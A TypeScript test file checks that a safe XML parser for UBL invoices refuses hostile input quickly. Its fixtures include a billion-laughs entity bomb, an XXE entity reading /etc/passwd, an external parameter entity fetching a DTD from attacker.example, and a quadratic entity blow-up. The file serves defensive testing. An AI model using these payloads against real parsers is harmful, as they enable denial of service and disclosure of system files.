import { describe, expect, it } from 'vitest';
import { InvalidInputError } from '../../../errors/index.js';
import type { MapContext } from '../../kit/mapper.js';
import { splitFile } from '../split.js';
import { ublMapper } from './mappers/ubl.js';
import { at, parseSafeXml, textOf } from './safe-xml.js';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>&lol9;</cbc:ID></Invoice>`;

const XXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>&xxe;</cbc:ID></Invoice>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!doctype Invoice [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>`;

// A quadratic blow-up needs no nesting: one big entity referenced many times.
const QUADRATIC = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY big "${'x'.repeat(50_000)}">]><a>${'&big;'.repeat(50_000)}</a>`;

const ctx: MapContext = {
  platform: 'files',
  connectionId: 'conn-1',
  envelopeId: 'env_test',
  mappingVersion: 'files-2026.1',
  timeZone: 'UTC',
  baseCurrency: 'EUR',
};

/** Runs `fn` and reports how long it took and how much the heap grew. */
function measure<T>(fn: () => T): { value: T; ms: number; heapMb: number } {
  const heapBefore = process.memoryUsage().heapUsed;
  const start = performance.now();
  const value = fn();
  const ms = performance.now() - start;
  const heapMb = (process.memoryUsage().heapUsed - heapBefore) / 1_048_576;
  return { value, ms, heapMb };
}

describe('unsafe XML is refused', () => {
  const cases = [
    ['billion laughs (entity expansion)', BILLION_LAUGHS],
    ['external entity (XXE)', XXE],
    ['external parameter entity, lower-case doctype', PARAMETER_ENTITY],
    ['quadratic blow-up', QUADRATIC],
  ] as const;

  for (const [name, xml] of cases) {
    it(`splitFile refuses ${name} with LP_INPUT_UNSAFE_XML, fast and without expanding`, () => {
      const { value: result, ms, heapMb } = measure(() => splitFile(xml, { fileName: 'evil.xml' }));
      expect(ms).toBeLessThan(1_000);
      expect(heapMb).toBeLessThan(64);
      expect(result.format).toBe('ubl');
      expect(result.documents).toEqual([]);
      const [error] = result.errors;
      expect(error).toBeInstanceOf(InvalidInputError);
      expect(error?.code).toBe('LP_INPUT_UNSAFE_XML');
      expect(error?.message).toMatch(/evil\.xml declares a DTD or entities .*refused/);
      expect(error?.context).toMatchObject({ fileName: 'evil.xml' });
    });

    it(`the ubl mapper refuses ${name} on replay, as a review`, () => {
      const { value: result, ms } = measure(() => ublMapper(xml, ctx));
      expect(ms).toBeLessThan(1_000);
      expect(result).toMatchObject({ review: { code: 'LP_INPUT_UNSAFE_XML' } });
    });
  }

  it('refuses very deep nesting in bounded time', () => {
    const depth = 100_000;
    const xml = `<a xmlns="urn:x">${'<b>'.repeat(depth)}${'</b>'.repeat(depth)}</a>`;
    const { value: result, ms } = measure(() => splitFile(xml, { fileName: 'deep.xml' }));
    expect(ms).toBeLessThan(2_000);
    expect(result.errors[0]?.code).toBe('LP_INPUT_FILE');
  });

  it('parseSafeXml throws InvalidInputError before any parser runs', () => {
    expect(() => parseSafeXml(XXE, 'x.xml')).toThrow(InvalidInputError);
  });
});

describe('parseSafeXml', () => {
  it('decodes the predefined entities and character references, nothing else', () => {
    const root = parseSafeXml(
      '<a xmlns="urn:x" title="A &amp; B"><b>Smith &amp; Sons &#233;&#x20AC; &lt;ok&gt; &unknown;</b></a>',
      't.xml',
    );
    expect(root.attrs).toEqual({ title: 'A & B' });
    expect(textOf(at(root, ['urn:x', 'b']))).toBe('Smith & Sons é€ <ok> &unknown;');
  });

  it('resolves names by namespace URI and refuses an undeclared prefix', () => {
    const root = parseSafeXml('<p:a xmlns:p="urn:one"><q:b xmlns:q="urn:two">x</q:b></p:a>', 't.xml');
    expect([root.ns, root.local]).toEqual(['urn:one', 'a']);
    expect(textOf(at(root, ['urn:two', 'b']))).toBe('x');
    expect(() => parseSafeXml('<p:a><b/></p:a>', 't.xml')).toThrow(/prefix "p"/);
  });

  it('refuses malformed XML with its position', () => {
    expect(() => parseSafeXml('<a><b></a>', 'bad.xml')).toThrow(/bad\.xml is not well-formed XML: .*line 1/);
  });
});
